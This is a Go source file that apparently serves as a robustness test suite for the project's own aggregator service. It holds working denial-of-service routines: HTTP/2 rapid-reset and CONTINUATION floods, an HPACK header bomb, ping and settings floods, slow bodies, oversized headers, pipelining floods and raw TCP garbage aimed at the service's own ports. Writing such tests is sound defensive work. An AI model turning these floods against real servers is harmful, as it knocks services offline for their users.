package attacks

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/rackweave/rackweave/service/api"
	"github.com/rackweave/rackweave/service/api/apiconnect"
)

// frames opens an HTTP/2 connection and lets f write frames to it. Its end is the aggregator's affair: it may close it at any time.
func (a *Aggregator) frames(ctx context.Context, f func(*http2.Framer) error) error {
	c, err := dialer.DialContext(ctx, "tcp", a.Addr())
	if err != nil {
		return err
	}
	defer c.Close()
	end := time.Now().Add(3 * window)
	if d, ok := ctx.Deadline(); ok && d.Before(end) {
		end = d
	}
	c.SetDeadline(end)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil
	}
	go io.Copy(io.Discard, c)
	framer := http2.NewFramer(c, c)
	framer.AllowIllegalWrites = true
	if framer.WriteSettings() != nil {
		return nil
	}
	f(framer)
	return nil
}

// request is the head of a call, with more fields.
func request(path string, more ...[2]string) []byte {
	var head bytes.Buffer
	e := hpack.NewEncoder(&head)
	for _, h := range append([][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "x"},
		{"content-type", "application/json"}}, more...) {
		e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return head.Bytes()
}

// belowCalls are kinds of frames that make no call, as the n-th of a connection.
var belowCalls = map[string]func(f *http2.Framer, n uint32) error{
	"ping":     func(f *http2.Framer, n uint32) error { return f.WritePing(false, [8]byte{byte(n)}) },
	"settings": func(f *http2.Framer, n uint32) error { return f.WriteSettings() },
	"priority": func(f *http2.Framer, n uint32) error { return f.WritePriority(2*n+1, http2.PriorityParam{Weight: 1}) },
	"window":   func(f *http2.Framer, n uint32) error { return f.WriteWindowUpdate(0, 1) },
	"unknown":  func(f *http2.Framer, n uint32) error { return f.WriteRawFrame(0x42, 0, 0, make([]byte, 16<<10)) },
	"a malformed head": func(f *http2.Framer, n uint32) error {
		head := request("/", [2]string{"UPPER", "x"})
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: head, EndHeaders: true})
	},
	"a bomb": func(f *http2.Framer, n uint32) error { // one large field, told again and again by its number
		head := request("/", [2]string{"large", strings.Repeat("x", 3<<10)})
		head = append(head, bytes.Repeat([]byte{0x80 | 62}, 12<<10)...)
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: head, EndHeaders: true})
	},
}

// FramesBelowCalls sends frames that make no call, of each kind over a connection of its own, without pause.
func FramesBelowCalls(ctx context.Context, a *Aggregator) error {
	ctx, cancel := context.WithTimeout(ctx, window)
	defer cancel()
	a.floodAll(ctx)
	return nil
}

func (a *Aggregator) floodAll(ctx context.Context) {
	var all sync.WaitGroup
	for _, send := range belowCalls {
		all.Go(func() { a.flood(ctx, send) })
	}
	all.Wait()
}

// flood sends frames of a kind until ctx ends, over another connection when one is closed.
func (a *Aggregator) flood(ctx context.Context, send func(*http2.Framer, uint32) error) {
	for ctx.Err() == nil {
		a.frames(ctx, func(f *http2.Framer) (err error) {
			for n := uint32(0); ctx.Err() == nil && err == nil; n++ {
				err = send(f, n)
			}
			return err
		})
		time.Sleep(window / 6) // to connect is another attack
	}
}

// MemberResets begins calls of a worker and takes each back at once.
func MemberResets(ctx context.Context, a *Aggregator) error {
	w := a.newTenant("")
	if err := w.join(ctx, newName("resets"), 1); err != nil {
		return err
	}
	defer w.leave(ctx)
	ctx, cancel := context.WithTimeout(ctx, window)
	defer cancel()
	head := request(apiconnect.JobServiceBarrierProcedure, [2]string{strings.ToLower(api.SessionHeader), w.session})
	a.flood(ctx, func(f *http2.Framer, n uint32) error {
		id := 2*n + 1
		return errors.Join(f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true}),
			f.WriteRSTStream(id, http2.ErrCodeCancel))
	})
	return nil
}

// RapidResets begins calls and takes each back at once.
func RapidResets(ctx context.Context, a *Aggregator) error {
	return a.frames(ctx, func(f *http2.Framer) error {
		head := request(apiconnect.JobServiceJoinProcedure)
		for i := range uint32(20_000) {
			id := 2*i + 1
			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true})
			if err = errors.Join(err, f.WriteRSTStream(id, http2.ErrCodeCancel)); err != nil {
				return err
			}
		}
		return nil
	})
}

// HeadersWithoutEnd goes on with one call's headers.
func HeadersWithoutEnd(ctx context.Context, a *Aggregator) error {
	return a.frames(ctx, func(f *http2.Framer) error {
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request("/")})
		junk := bytes.Repeat([]byte{0x40, 1, 'x', 1, 'y'}, 3000)
		for i := 0; i < 10_000 && err == nil; i++ {
			err = f.WriteContinuation(1, false, junk)
		}
		return err
	})
}

// PingsAndSettings sends what must be answered and takes no answer.
func PingsAndSettings(ctx context.Context, a *Aggregator) error {
	return a.frames(ctx, func(f *http2.Framer) (err error) {
		for i := 0; i < 50_000 && err == nil; i++ {
			err = errors.Join(f.WritePing(false, [8]byte{byte(i)}), f.WriteSettings())
		}
		return err
	})
}

// SlowBodies begins bodies on many streams and sends a byte of each now and then.
func SlowBodies(ctx context.Context, a *Aggregator) error {
	return a.frames(ctx, func(f *http2.Framer) (err error) {
		for i := range uint32(30) {
			err = errors.Join(err, f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1,
				BlockFragment: request(apiconnect.JobServiceJoinProcedure), EndHeaders: true}))
		}
		for range 20 {
			for i := range uint32(30) {
				err = errors.Join(err, f.WriteData(2*i+1, false, []byte("{")))
			}
			if err != nil {
				return err
			}
			time.Sleep(50 * time.Millisecond)
		}
		return nil
	})
}

// LargeHeads sends requests whose heads are large, or have many lines.
func LargeHeads(ctx context.Context, a *Aggregator) error {
	for _, line := range []string{"X: " + strings.Repeat("y", 1<<20) + "\r\n", strings.Repeat("X: y\r\n", 100_000)} {
		c, err := dialer.DialContext(ctx, "tcp", a.Addr())
		if err != nil {
			return err
		}
		c.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprintf(c, "GET /metrics HTTP/1.1\r\nHost: x\r\n%s\r\n", line)
		answer, _ := io.ReadAll(io.LimitReader(c, 1<<10))
		c.Close()
		if bytes.HasPrefix(answer, []byte("HTTP/1.1 200")) {
			return fmt.Errorf("a head of %d bytes was taken", len(line))
		}
	}
	return nil
}

// Pipelined sends many requests at once over one connection, and reads nothing.
func Pipelined(ctx context.Context, a *Aggregator) error {
	c, err := dialer.DialContext(ctx, "tcp", a.Addr())
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(time.Second))
	all := strings.Repeat("GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n", 1000)
	for range 100 {
		if _, err := io.WriteString(c, all); err != nil {
			break // as it should be: nobody takes the answers
		}
	}
	return nil
}

// DataPath talks to the port by which tcp carries gradients, which the kernel names.
func DataPath(ctx context.Context, a *Aggregator) error {
	ports, err := a.listening()
	if err != nil {
		return err
	}
	for _, port := range ports {
		for i := range 200 {
			c, err := dialer.DialContext(ctx, "tcp", fmt.Sprint("127.0.0.1:", port))
			if err != nil {
				break
			}
			c.Write(bytes.Repeat([]byte{byte(i), 0x57, 0x54, 0x48}, 10))
			if i%2 == 0 {
				c.(*net.TCPConn).SetLinger(0)
			}
			c.Close()
		}
	}
	return nil
}
